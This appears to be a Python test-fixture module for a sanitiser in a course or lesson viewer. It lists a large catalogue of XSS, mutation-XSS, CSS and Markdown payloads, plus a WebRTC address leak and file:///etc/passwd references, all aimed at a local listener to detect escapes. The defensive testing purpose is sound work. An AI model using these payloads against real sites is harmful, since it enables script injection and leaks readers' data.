"""Markup that tries to reach a server or to run something, for the cleaner and for the page.

Addresses are given with the listener's own host and port, so that whatever gets out is counted.
Written for this project; the families are the ones that public lists of attacks agree on.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

# tag with {u}: an address that the listener hears. {n} is a running number.
_TAGS = """
<img src="{u}">
<img srcset="{u} 1x, {u}?2 2x">
<img src="media/x.png" onerror="new Image().src='{u}'">
<img lowsrc="{u}" dynsrc="{u}">
<image src="{u}">
<picture><source srcset="{u}"><img src="media/none.png"></picture>
<video src="{u}" autoplay></video>
<video poster="{u}" src="media/a.mp4"></video>
<video><source src="{u}"></video>
<video src="media/a.mp4"><track default src="{u}"></video>
<audio src="{u}" autoplay></audio>
<audio><source src="{u}" onerror="fetch('{u}')"></audio>
<bgsound src="{u}">
<iframe src="{u}"></iframe>
<iframe srcdoc="<img src='{u}'>"></iframe>
<iframe srcdoc="<script>fetch('{u}')</script>"></iframe>
<frameset><frame src="{u}"></frameset>
<object data="{u}"></object>
<object classid="{u}" codebase="{u}"></object>
<embed src="{u}">
<applet code="{u}" archive="{u}"></applet>
<portal src="{u}"></portal>
<fencedframe src="{u}"></fencedframe>
<input type="image" src="{u}">
<input autofocus onfocus="fetch('{u}')">
<button formaction="{u}" form="f" autofocus onfocus="this.click()">b</button>
<form action="{u}" id="f"><input name="q" value="1"></form><script>f.submit()</script>
<form action="{u}" method="post"><button>go</button></form>
<isindex action="{u}" prompt="x">
<body background="{u}">
<table background="{u}"><tr><td background="{u}">x</td></tr></table>
<td background="{u}">x</td>
<script src="{u}"></script>
<script>fetch('{u}')</script>
<script type="module">import '{u}'</script>
<script type="importmap">{{"imports": {{"a": "{u}"}}}}</script>
<script type="speculationrules">{{"prefetch": [{{"source": "list", "urls": ["{u}"]}}]}}</script>
<script>new WebSocket('{w}')</script>
<script>new EventSource('{u}')</script>
<script>navigator.sendBeacon('{u}')</script>
<script>location = '{u}'</script>
<script>open('{u}')</script>
<script>document.title = 'taken'</script>
<script>{r}</script>
<img src="media/none.png" onerror="{r}">
<svg><script>{r}</script></svg>
<iframe srcdoc="<script>{r}</script>"></iframe>
<script>new WebTransport('https://{d}/n{n}')</script>
<noscript><img src="{u}"></noscript>
<noscript><p title="</noscript><img src={u}>"></noscript>
<template><img src="{u}"></template>
<template shadowrootmode="open"><img src="{u}"></template>
<link rel="stylesheet" href="{u}">
<link rel="preload" as="image" href="{u}">
<link rel="modulepreload" href="{u}">
<link rel="prefetch" href="{u}">
<link rel="prerender" href="{u}">
<link rel="preconnect" href="{t}">
<link rel="preconnect" href="{t}" crossorigin>
<link rel="dns-prefetch" href="{t}">
<link rel="icon" href="{u}">
<link rel="manifest" href="{u}">
<link rel="import" href="{u}">
<link rel="next" href="{u}">
<link rel="search" href="{u}">
<meta http-equiv="refresh" content="0; url={u}">
<meta http-equiv="refresh" content="0; url=javascript:fetch('{u}')">
<meta http-equiv="refresh" content="0; url=data:text/html,<img src='{u}'>">
<meta http-equiv="link" content="<{u}>; rel=preload; as=image">
<meta http-equiv="Content-Security-Policy" content="default-src *; report-uri {u}">
<meta property="og:image" content="{u}">
<base href="{u}/"><img src="media/x.png">
<base target="_blank">
<style>@import '{u}';</style>
<style>@import url({u});</style>
<style>body {{ background: url({u}) }}</style>
<style>@font-face {{ font-family: x; src: url({u}) }} * {{ font-family: x }}</style>
<style>li {{ list-style-image: url({u}) }}</style><ul><li>x</li></ul>
<style>p {{ cursor: url({u}), auto; content: url({u}) }}</style><p>x</p>
<style>p::before {{ content: url({u}) }}</style><p>x</p>
<style>* {{ mask: url({u}); border-image: url({u}); filter: url({u}#a) }}</style>
<style>@namespace x url({u});</style>
<p style="background: url({u})">x</p>
<p style="background-image: \\75 rl({u})">x</p>
<p style="background: image-set('{u}' 1x)">x</p>
<p style="-webkit-mask-image: url({u}); mask-image: url({u})">x</p>
<p style="list-style: url({u}); display: list-item">x</p>
<p style="width: expression(fetch('{u}'))">x</p>
<p style="behavior: url({u}); -moz-binding: url({u})">x</p>
<div style="content: url({u})">x</div>
<svg><image href="{u}"/></svg>
<svg><image xlink:href="{u}"/></svg>
<svg><use href="{u}#a"/></svg>
<svg><feImage href="{u}"/></svg>
<svg><script href="{u}"/></svg>
<svg><script>fetch('{u}')</script></svg>
<svg><style>@import '{u}';</style></svg>
<svg><style><img src="</style><img src={u}>"></svg>
<svg><a href="{u}"><text>x</text></a></svg>
<svg><foreignObject><img src="{u}"></foreignObject></svg>
<svg><foreignObject><iframe src="{u}"></iframe></foreignObject></svg>
<svg><animate onbegin="fetch('{u}')" attributeName="x" dur="1s"/></svg>
<svg><set attributeName="href" to="{u}"/><image href="media/x.png"/></svg>
<svg onload="fetch('{u}')"></svg>
<svg><rect fill="url({u}#a)" width="9" height="9"/></svg>
<svg><desc><img src="{u}"></desc></svg>
<svg><title><img src="{u}"></title></svg>
<math href="{u}">x</math>
<math><mtext><img src="{u}"></mtext></math>
<math><annotation-xml encoding="text/html"><img src="{u}"></annotation-xml></math>
<math><maction actiontype="statusline#{u}" xlink:href="{u}">x</maction></math>
<math><mi xlink:href="javascript:fetch('{u}')">x</mi></math>
<math><mglyph src="{u}"></mglyph></math>
<a href="javascript:fetch('{u}')" id="c{n}">x</a>
<a href="&#106;avascript:fetch('{u}')">x</a>
<a href="java&#10;script:fetch('{u}')">x</a>
<a href=" javascript:fetch('{u}')">x</a>
<a href="data:text/html,<script>fetch('{u}')</script>">x</a>
<a href="vbscript:x">x</a>
<a href="{u}" ping="{u}">x</a>
<a href="{u}" target="_blank" download>x</a>
<a href="media/x.png" attributionsrc="{u}">x</a>
<area href="{u}">
<blockquote cite="{u}">x</blockquote>
<q cite="{u}">x</q>
<del cite="{u}">x</del>
<html manifest="{u}">
<head profile="{u}">
<div onclick="fetch('{u}')" onmouseover="fetch('{u}')">x</div>
<details open ontoggle="fetch('{u}')"><summary>x</summary></details>
<marquee onstart="fetch('{u}')">x</marquee>
<video onloadstart="fetch('{u}')" src="media/a.mp4"></video>
<p onanimationstart="fetch('{u}')" style="animation: a 1s">x</p>
<select autofocus onfocus="fetch('{u}')"><option>x</option></select>
<textarea autofocus onfocus="fetch('{u}')"></textarea>
<keygen autofocus onfocus="fetch('{u}')">
<dialog open onclose="fetch('{u}')"><form method="dialog"><button>x</button></form></dialog>
<p id="app-body">x</p><p id="app-title">x</p>
<form><math><mtext></form><form><mglyph><style></math><img src="{u}">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src={u}&gt;">
<svg></p><style><a id="</style><img src={u}>">
<noembed><img title="</noembed><img src={u}>"></noembed>
<xmp><p title="</xmp><img src={u}>"></xmp>
<plaintext><img src="{u}">
<!--><img src="{u}">-->
<!-- --!><img src="{u}">
<![CDATA[<img src="{u}">]]>
<?xml-stylesheet href="{u}"?><img src="{u}">
<div><template><style></template><img src="{u}"></style></div>
<select><iframe src="{u}"></iframe></select>
<table><img src="{u}"></table>
<img src="http:media/../{u}">
<img src="//{h}/n{n}">
<img src="\\\\{h}\\n{n}">
<img src="course://other/media/x.png"><img src="file:///etc/passwd"><img src="qrc:/x.png">
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='{u}'/></svg>">
<img src="blob:{u}"><img src="filesystem:{u}"><img src="view-source:{u}">
<a name="app-x" id="APP-x">x</a>
"""

_MARKDOWN = """
![x]({u})
![x]({u} "title")
![x][r]{nl}{nl}[r]: {u}
[x](javascript:fetch('{u}'))
[x](<javascript:fetch('{u}')>)
[x](JaVaScRiPt:fetch%28%27{u}%27%29)
[x](data:text/html,<img%20src='{u}'>)
[x](//{h}/n{n})
<javascript:fetch('{u}')>
![x](javascript:fetch('{u}'))
![x](media/../../../etc/passwd)
![x](media/x.png){{ onerror="fetch('{u}')" style="background:url({u})" }}
# x {{ #app-body onclick="fetch('{u}')" }}
x {{: style="background: url({u})" }}
| a |{nl}|---|{nl}| <img src="{u}"> |
> <img src="{u}">
- <img src="{u}">
!!! note "<img src={u}>"{nl}    <img src="{u}">
x[^1]{nl}{nl}[^1]: <img src="{u}">
*[x]: "><img src="{u}">{nl}{nl}x
x{nl}:   <img src="{u}">
```html{nl}<img src="{u}">{nl}```
``` {{ style="background:url({u})" onclick="x" }}{nl}x{nl}```
<div markdown="1">{nl}![x]({u}){nl}</div>
$x <img src="{u}"> y$
"""


# Asks a STUN server who it is, which tells that server the reader's address.
_WEBRTC = (
    "(async () => {{ const p = new RTCPeerConnection({{iceServers: [{{urls: `stun:{d}`}}]}});"
    "p.createDataChannel(`x`); await p.setLocalDescription(await p.createOffer()); }})()"
)


def attacks(http: str, tcp: str, udp: str) -> Iterator[tuple[int, str, bool]]:
    """(number, source, is_markdown) of every attack.

    `http`, `tcp` and `udp` are "host:port" of listeners; each HTTP address ends in /n and the
    number.
    """
    number = 0
    for lines, is_markdown in ((_TAGS, False), (_MARKDOWN, True)):
        for line in filter(None, (line.strip() for line in lines.splitlines())):
            number += 1
            yield (
                number,
                line.format(
                    u=f"http://{http}/n{number}",
                    t=f"http://{tcp}/",
                    w=f"ws://{http}/n{number}",
                    r=_WEBRTC.format(d=udp),
                    d=udp,
                    h=http,
                    n=number,
                    nl="\n",
                ),
                is_markdown,
            )


def collected() -> list[str]:
    """Payloads that others have collected, where they are on this machine; one on a line."""
    folder = Path(__file__).resolve().parents[3] / "shared" / "corpora" / "xss"
    lines: dict[str, None] = {}
    for file in sorted(folder.rglob("*.txt")):
        lines.update(dict.fromkeys(file.read_text("utf-8", "replace").splitlines()))
    return [line for line in lines if line.strip()]


# What a reader may click on; none of it may fetch anything, only the marked ones are told.
CLICKS = (
    ('<a id="t" href="{u}">x</a>', True),
    ('<a id="t" href="{u}" target="_blank">x</a>', True),
    ('<a id="t" href="{u}" ping="{u}">x</a>', True),
    ('<a id="t" href="{u}" download>x</a>', True),
    ('<a id="t" href="javascript:fetch(\'{u}\')">x</a>', False),
    ('<a id="t" href="data:text/html,<img src={u}>">x</a>', False),
    ('<a id="t" href="file:///etc/passwd">x</a>', False),
    ('<a id="t" href="mailto:a@example.org">x</a>', False),
    ('<a id="t" href="chrome://settings">x</a>', False),
    ('<a id="t" href="course://other/media/x.png">x</a>', False),
    ('<a id="t" href="course://lesson/media/x.svg">x</a>', False),
    ('<a id="t" href="view-source:{u}">x</a>', False),
    ('<form action="{u}"><button id="t">x</button></form>', False),
    ('<form action="{u}" method="post"><button id="t">x</button></form>', False),
    ('<form><button id="t" formaction="{u}">x</button></form>', False),
    (
        '<svg width="60" height="30"><a id="t" href="{u}"><rect width="60" height="30"/></a></svg>',
        False,
    ),
)
